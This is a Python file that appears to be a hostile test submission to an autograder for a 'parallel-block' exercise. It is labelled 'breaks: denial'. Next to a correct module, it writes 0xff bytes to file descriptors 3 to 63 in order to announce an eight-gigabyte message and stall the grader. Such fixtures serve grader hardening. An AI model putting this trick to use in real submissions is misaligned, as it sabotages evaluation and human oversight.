"""Announces a message of eight gigabytes to the grader.

exercise: parallel-block
points: 0
breaks: denial
"""


class ParallelBlock(nn.Module):
    def __init__(self, net1, net2):
        super().__init__()
        self.net1, self.net2 = net1, net2

    def forward(self, X):
        return torch.cat((self.net1(X), self.net2(X)), dim=-1)


import os

for descriptor in range(3, 64):
    try:
        os.write(descriptor, b"\xff" * 8)
    except OSError:
        pass
